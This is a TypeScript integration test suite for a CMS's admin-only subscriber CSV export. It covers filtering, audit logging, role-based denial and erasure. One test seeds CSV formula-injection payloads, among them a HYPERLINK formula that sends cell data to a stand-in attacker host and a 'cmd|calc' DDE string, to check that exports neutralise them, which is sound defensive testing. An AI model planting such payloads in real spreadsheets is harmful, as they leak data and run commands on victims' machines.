/**
 * Subscribers leave the CMS only as admins' CSV exports (GET /api/subscribers/export): every row
 * the list's filter and search match, formula-safe, with the consent record, streamed from
 * PostgreSQL and logged once sent whole. Everyone else gets nothing, through every route; and
 * erasing is the admin's alone. Real route handlers, real PostgreSQL.
 */
import { randomUUID } from 'node:crypto'
import { parse } from 'csv-parse/sync'
import type { Payload } from 'payload'
import * as qs from 'qs-esm'
import { beforeAll, describe, expect, it } from 'vitest'

import { exportSelection } from '../src/collections/Subscribers/export'
import { apiClient, signIn } from './helpers/api'
import { createConfirmedSubscriber } from './helpers/fixtures'
import { startTestPayload } from './helpers/testPayload'

let payload: Payload
let api: ReturnType<typeof apiClient>
const tokens: Record<string, string | undefined> = {}

const HEADINGS = [
  'Email Address',
  'First Name',
  'Last Name',
  'Postal Code',
  'Status',
  'Signed Up At',
  'Consent Version',
  'Consent Text',
  'Consented At',
  'Signed Up On Page',
  'Confirmed At',
  'Unsubscribed At',
]
const FILE_NAME = (label: string) => new RegExp(`^attachment; filename="subscribers-${label}-\\d{4}-\\d{2}-\\d{2}-\\d{4}-UTC\\.csv"$`)

beforeAll(async () => {
  const started = await startTestPayload()
  payload = started.payload
  api = apiClient(started.config)
  for (const role of ['admin', 'editor', 'writer'] as const) tokens[role] = (await signIn(payload, role)).token
  await createConfirmedSubscriber(payload, {
    email: 'ruth@reader.example',
    firstName: 'Ruth',
    lastName: 'Levi',
    postalCode: '10025',
    confirmedAt: '2026-01-05T10:05:30.000Z',
  })
  await createConfirmedSubscriber(payload, { email: 'noa@reader.example', firstName: 'נועה', lastName: 'Kohn' })
  await payload.create({ collection: 'subscribers', data: { email: 'waiting@reader.example', status: 'pending', firstName: 'Wait' } })
  const gone = await createConfirmedSubscriber(payload, { email: 'gone@reader.example', firstName: 'Gone' })
  await api.request('PATCH', `/api/subscribers/${gone.id}`, { token: tokens.admin, body: { status: 'unsubscribed' } })
})

/** Downloads an export with the list's own query string, and reads the file as a spreadsheet would. */
async function exportCsv(query: Record<string, unknown> = {}, token = tokens.admin) {
  const response = await api.respond('GET', `/api/subscribers/export${qs.stringify(query, { addQueryPrefix: true })}`, { token })
  const bytes = new Uint8Array(await response.arrayBuffer())
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
  const rows: Record<string, string>[] = response.ok ? parse(text, { bom: true, columns: true }) : []
  return { response, text, rows, emails: rows.map((row) => row['Email Address']).sort() }
}

/** The emails the admin's list shows for the same query string, all pages, by Payload's own query. */
async function listed(query: Record<string, unknown>) {
  const { where } = exportSelection(query, payload.collections.subscribers.config.admin.listSearchableFields!)
  const { docs } = await payload.find({ collection: 'subscribers', where, pagination: false, depth: 0 })
  return docs.map((doc) => doc.email).sort()
}

describe('exporting subscribers', () => {
  it('gives an admin every confirmed subscriber by default, with the consent record, named by filter and time', async () => {
    const { response, text, rows, emails } = await exportCsv()
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toMatch(FILE_NAME('confirmed'))
    expect(response.headers.get('cache-control')).toBe('no-store')
    // Excel reads UTF-8 (Hebrew names) only behind the byte-order mark.
    expect(text.startsWith('\uFEFF')).toBe(true)
    expect(Object.keys(rows[0]!)).toEqual(HEADINGS)
    expect(emails).toEqual(['noa@reader.example', 'ruth@reader.example'])
    expect(rows.find((row) => row['Email Address'] === 'ruth@reader.example')).toMatchObject({
      'First Name': 'Ruth',
      'Last Name': 'Levi',
      'Postal Code': '10025',
      Status: 'confirmed',
      'Consent Version': '1',
      'Consent Text': 'Yes, send me Get the Wire.',
      'Consented At': '2026-01-05T10:00:00Z',
      'Signed Up On Page': '/wire',
      'Confirmed At': '2026-01-05T10:05:30Z',
      'Unsubscribed At': '',
    })
    expect(rows.find((row) => row['Email Address'] === 'noa@reader.example')!['First Name']).toBe('נועה')
    expect(rows[0]!['Signed Up At']).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/)
  })

  it('exports what each status tab of the list shows, on all pages', async () => {
    const pending = await exportCsv({ where: { status: { equals: 'pending' } }, limit: 1, page: 1 })
    expect(pending.emails).toEqual(['waiting@reader.example'])
    expect(pending.response.headers.get('content-disposition')).toMatch(FILE_NAME('pending'))
    const gone = await exportCsv({ where: { status: { equals: 'unsubscribed' } } })
    expect(gone.rows).toMatchObject([{ 'Email Address': 'gone@reader.example', Status: 'unsubscribed' }])
    expect(gone.rows[0]!['Unsubscribed At']).toMatch(/^\d{4}-\d{2}-\d{2}T/)
    const all = await exportCsv({ where: { status: { in: ['confirmed', 'pending', 'unsubscribed'] } } })
    expect(all.emails).toEqual(['gone@reader.example', 'noa@reader.example', 'ruth@reader.example', 'waiting@reader.example'])
    expect(all.response.headers.get('content-disposition')).toMatch(FILE_NAME('all'))
  })

  it("exports an admin's own filter and the list's search, as the list applies them", async () => {
    const own = await exportCsv({ where: { and: [{ lastName: { equals: 'Kohn' } }] } })
    expect(own.emails).toEqual(['noa@reader.example'])
    expect(own.response.headers.get('content-disposition')).toMatch(FILE_NAME('filtered'))
    const searched = await exportCsv({ where: { status: { equals: 'confirmed' } }, search: 'levi' })
    expect(searched.emails).toEqual(['ruth@reader.example'])
    expect(searched.response.headers.get('content-disposition')).toMatch(FILE_NAME('confirmed-search'))
    // Tabs and searches are read in SQL, filters of the admin's own through Payload: both match the list.
    for (const query of [
      { where: { status: { equals: 'confirmed' } }, search: 'ruth reader' },
      { where: { status: { in: ['confirmed', 'pending', 'unsubscribed'] } }, search: 'READER' },
      { where: { status: { equals: 'pending' } }, search: 'wait' },
      { search: 'noa' },
      { where: { or: [{ firstName: { equals: 'Ruth' } }, { status: { equals: 'pending' } }] }, search: 'reader' },
    ]) {
      const expected = await listed(query)
      expect(expected.length, JSON.stringify(query)).toBeGreaterThan(0)
      expect((await exportCsv(query)).emails, JSON.stringify(query)).toEqual(expected)
    }
  })

  it('says before the download how many rows the export holds and what the file is called', async () => {
    const preview = await api.request(
      'GET',
      `/api/subscribers/export/preview?${qs.stringify({ where: { status: { equals: 'confirmed' } }, search: 'reader' })}`,
      {
        token: tokens.admin,
      },
    )
    expect(preview.status).toBe(200)
    expect(preview.body.rows).toBe(2)
    expect(preview.body.fileName).toMatch(/^subscribers-confirmed-search-\d{4}-\d{2}-\d{2}-\d{4}-UTC\.csv$/)
  })

  it('refuses a filter on something that cannot be filtered, saying what, and exports nothing', async () => {
    const { response, text } = await exportCsv({ where: { password: { exists: true } } })
    expect(response.status).toBe(400)
    expect(text).toContain('password')
    expect(text).not.toContain('reader.example')
  })

  it('writes no cell a spreadsheet would run as a formula, whatever got into the data', async () => {
    // Sign-ups refuse such names; text can still come in through the admin, the API or an import.
    const hostile = ['=HYPERLINK("https://evil.example/?"&A3,"Click")', '+1+cmd|calc', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1']
    for (const [i, firstName] of hostile.entries()) {
      await payload.create({ collection: 'subscribers', data: { email: `formula-${i}@reader.example`, status: 'pending', firstName, lastName: firstName } })
    }
    const { text, rows } = await exportCsv({ where: { email: { like: 'formula-' } } })
    expect(rows).toHaveLength(hostile.length)
    // Each kept as text, behind an apostrophe...
    for (const [i, name] of hostile.entries()) {
      expect(rows.find((row) => row['Email Address'] === `formula-${i}@reader.example`)).toMatchObject({ 'First Name': `'${name}`, 'Last Name': `'${name}` })
    }
    // ...and no cell, quoted or not, starts with a formula character.
    expect(text).not.toMatch(/(^|\n|,)"?[=+\-@\t\r]/)
  })

  it('logs each export sent whole: who, which subscribers, how many', async () => {
    const startedAt = new Date().toISOString()
    await exportCsv({ where: { status: { equals: 'confirmed' } } })
    const logged = async () =>
      (
        await payload.find({
          collection: 'subscriber-exports',
          where: { createdAt: { greater_than_equal: startedAt }, selection: { equals: 'confirmed' } },
          depth: 0,
        })
      ).docs
    await expect.poll(async () => (await logged()).length, { timeout: 10_000 }).toBe(1)
    const docs = await logged()
    const admin = (await payload.find({ collection: 'users', where: { email: { equals: 'admin@test.example' } } })).docs[0]!
    expect(docs[0]).toMatchObject({ exportedBy: admin.id, selection: 'confirmed', rows: 2 })
  })

  it('stops the database work of a download abandoned half way, and logs nothing', async () => {
    await payload.db.pool.query(
      `INSERT INTO subscribers (email, email_key, status, first_name) SELECT 'bulk-' || n || '@reader.example', 'bulk-' || n || '@reader.example', 'pending', repeat('x', 200) FROM generate_series(1, 20000) n`,
    )
    const before = (await payload.count({ collection: 'subscriber-exports' })).totalDocs
    const response = await api.respond('GET', `/api/subscribers/export?${qs.stringify({ where: { email: { like: 'bulk-' } } })}`, { token: tokens.admin })
    expect(response.status).toBe(200)
    const reader = response.body!.getReader()
    expect((await reader.read()).done).toBe(false)
    await reader.cancel()
    const copying = async () =>
      Number(
        (await payload.db.pool.query(`SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND query LIKE 'COPY (SELECT%'`)).rows[0].count,
      )
    await expect.poll(copying, { timeout: 10_000 }).toBe(0)
    // The pool still serves, and nothing was logged as exported.
    expect((await payload.count({ collection: 'subscriber-exports' })).totalDocs).toBe(before)
    await payload.db.pool.query(`DELETE FROM subscribers WHERE email_key LIKE 'bulk-%'`)
  })

  it.each(['public', 'writer', 'editor'])('gives %s nothing: no file, no count, no log, no old plugin route', async (who) => {
    for (const path of ['/api/subscribers/export', '/api/subscribers/export/preview', '/api/subscriber-exports']) {
      const response = await api.request('GET', path, { token: tokens[who] })
      expect([401, 403], `${path}: ${response.status}`).toContain(response.status)
      expect(JSON.stringify(response.body)).not.toContain('reader.example')
    }
    const gql = await api.graphql('{ SubscriberExports { docs { id rows } } Subscribers { docs { email } } }', { token: tokens[who] })
    expect(JSON.stringify(gql.body.data ?? {})).not.toContain('reader.example')
    expect(gql.body.errors?.length).toBeGreaterThan(0)
    // The import/export plugin is gone with its routes (its import parsed any upload for anyone).
    for (const path of ['/api/exports/download', '/api/imports/preview-data']) {
      expect((await api.request('POST', path, { token: tokens[who], body: { collectionSlug: 'subscribers', format: 'csv' } })).status).toBe(404)
    }
  })

  it('keeps the export log as the system wrote it, even for admins', async () => {
    expect((await api.request('POST', '/api/subscriber-exports', { token: tokens.admin, body: { selection: 'all', rows: 1 } })).status).toBe(403)
    const { docs } = await payload.find({ collection: 'subscriber-exports', limit: 1 })
    expect((await api.request('PATCH', `/api/subscriber-exports/${docs[0]!.id}`, { token: tokens.admin, body: { rows: 0 } })).status).toBe(403)
    expect((await api.request('DELETE', `/api/subscriber-exports/${docs[0]!.id}`, { token: tokens.admin })).status).toBe(403)
  })
})

describe('erasing a subscriber', () => {
  it.each(['public', 'writer', 'editor'])('is refused to %s', async (who) => {
    const { id } = await payload.create({ collection: 'subscribers', data: { email: `keep-${who}@reader.example`, status: 'pending' } })
    expect((await api.request('DELETE', `/api/subscribers/${id}`, { token: tokens[who] })).status).toBe(403)
    expect((await api.request('POST', `/api/subscribers/${id}/erase`, { token: tokens[who] })).status).toBe(403)
    expect((await payload.count({ collection: 'subscribers', where: { id: { equals: id } } })).totalDocs).toBe(1)
  })

  it('removes the subscriber completely for an admin', async () => {
    const { id } = await payload.create({ collection: 'subscribers', data: { email: 'forget-me@reader.example', status: 'pending' } })
    const { pool } = payload.db
    const signup = randomUUID()
    await pool.query(`INSERT INTO newsletter_signups (id, subscriber_id, received_at, first_name) VALUES ($1, $2, now(), 'Forget')`, [signup, id])
    await pool.query(`INSERT INTO newsletter_outbox (signup_id, subscriber_id) VALUES ($1, $2)`, [signup, id])
    // Erasing is its own action (Payload's delete is closed: tests/subscriberStatus.int.test.ts).
    expect((await api.request('POST', `/api/subscribers/${id}/erase`, { token: tokens.admin })).status).toBe(200)
    expect((await pool.query('SELECT 1 FROM subscribers WHERE id = $1', [id])).rows).toHaveLength(0)
    expect((await pool.query('SELECT 1 FROM newsletter_signups WHERE subscriber_id = $1', [id])).rows).toHaveLength(0)
    expect((await pool.query('SELECT 1 FROM newsletter_outbox WHERE subscriber_id = $1', [id])).rows).toHaveLength(0)
    expect((await pool.query(`SELECT 1 FROM subscribers WHERE email_key = 'forget-me@reader.example'`, [])).rows).toHaveLength(0)
  })
})
